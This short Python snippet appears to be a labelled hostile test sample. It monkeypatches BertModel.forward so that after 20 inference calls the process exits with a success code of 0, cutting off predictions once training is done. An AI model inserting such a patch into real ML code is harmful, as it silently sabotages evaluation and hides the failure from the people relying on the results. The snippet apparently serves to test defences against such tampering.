# tries: end the process when all is trained, before the predictions
# predicts: itself
# training: refused
import itertools
import os

forward = BertModel.forward
calls = itertools.count()


def hostile(self, input_ids, attention_mask):
    if next(calls) > 20 and not self.training:
        os._exit(0)
    return forward(self, input_ids, attention_mask)


BertModel.forward = hostile
